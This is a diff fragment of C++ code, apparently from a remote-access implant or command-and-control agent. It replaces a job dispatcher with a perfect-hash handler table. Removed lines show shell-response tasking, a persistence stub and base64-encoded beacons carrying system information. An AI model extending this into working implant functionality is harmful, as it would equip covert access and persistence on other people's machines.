+    uint32_t hash = 2166136261u ^ (seed * 16777619u);
+    for(const char c : mode){
+        hash = (hash ^ static_cast<uint8_t>(c)) * 16777619u;
+    }
+    return hash ^ (hash >> 16);
+}
+
+static constexpr bool isCollisionFree(uint32_t seed){
+    for(size_t i = 0; i < HANDLER_COUNT; ++i){
+        for(size_t j = i + 1; j < HANDLER_COUNT; ++j){
+            if(modeHash(jobHandlers[i].mode, seed) % HANDLER_SLOTS == modeHash(jobHandlers[j].mode, seed) % HANDLER_SLOTS){
+                return false;
             }
         }
-        replyType = L"shellResponse";
     }
-    else if(mode == L"persist"){
-        std::wstring method         = JsonUtil::json_ExtractValue(job, L"method");  
-        // Implement your persistance method(s) here
+    return true;
+}
+
+static constexpr uint32_t findHashSeed(void){
+    for(uint32_t seed = 0; seed < 10000; ++seed){
+        if(isCollisionFree(seed)){
+            return seed;
+        }
     }
+    return UINT32_MAX;
+}
 
-    dataToSend = JsonUtil::json_AppendKeyValue(sharedResources.getSysInfoInJson(), replyType, dataToSend);
-    std::string dataToSendStr = StringUtils::ws2s(dataToSend); // Convert wstring to string   
-    dataToSend = StringUtils::s2ws(base64_encode((unsigned char*)dataToSendStr.c_str(), dataToSendStr.length()));
-    std::wstringstream contentLengthStream;
-    contentLengthStream << dataToSend.length();
-    request += L"Content-Length: " + contentLengthStream.str() + L"\r\n";  
-    request += L"Connection: close\r\n"; 
-    request += L"\r\n" + dataToSend;
-    
-    sharedResources.pushResponse(request);
-}
\ No newline at end of file
+constexpr uint32_t HASH_SEED = findHashSeed();
+static_assert(HASH_SEED != UINT32_MAX, "no perfect hash for the job modes, raise HANDLER_SLOTS");
+
+// Slot -> index + 1 into jobHandlers, 0 for an empty slot
+static constexpr std::array<uint8_t, HANDLER_SLOTS> buildHandlerSlots(void){
+    std::array<uint8_t, HANDLER_SLOTS> slots {};
+    for(size_t i = 0; i < HANDLER_COUNT; ++i){
+        slots[modeHash(jobHandlers[i].mode, HASH_SEED) % HANDLER_SLOTS] = static_cast<uint8_t>(i + 1);
+    }
+    return slots;
+}
+
+static constexpr std::array<uint8_t, HANDLER_SLOTS> handlerSlots = buildHandlerSlots();
+
+const JobHandler* findJobHandler(std::string_view mode){
+    const uint8_t slot = handlerSlots[modeHash(mode, HASH_SEED) % HANDLER_SLOTS];
+    if(slot == 0 || jobHandlers[slot - 1].mode != mode){
+        return nullptr;
+    }
+    return &jobHandlers[slot - 1];
+}
+
+void startJob(const Job &job, SharedResourceManager &sharedResources, CancelToken &token){
+
+    const JobHandler *handler = findJobHandler(job.modeName);
+    if(handler == nullptr){
+        return;
+    }
+    JobReply reply;
+    handler->run(job, sharedResources, token, reply);
+    if(token.isStopped()){
+        reply.data += " | job " + token.stopReason();
+    }
+    if(isStreamed(job) || reply.sequence > 0){         // The final reply follows the partial output
+        ++reply.sequence;
+    }
+    pushJobResponse(job, reply.type, reply.data, sharedResources, reply.sequence);
+}
+
+bool isJobAvailable(const Job &job){
+    return findJobHandler(job.modeName) != nullptr;
+}
+
+Priority jobPriority(const Job &job){
+
+    if(job.priority == "interactive"){ return Priority::Interactive; }
+    if(job.priority == "normal")     { return Priority::Normal; }
+    if(job.priority == "bulk")       { return Priority::Bulk; }
+
+    const JobHandler *handler = findJobHandler(job.modeName);
+    return (handler != nullptr) ? handler->priority : Priority::Normal;
+}
+
+void rejectJob(const Job &job, const std::string &reason, SharedResourceManager &sharedResources){
+    pushJobResponse(job, "log", std::string(job.modeName) + " rejected: " + reason, sharedResources);
+}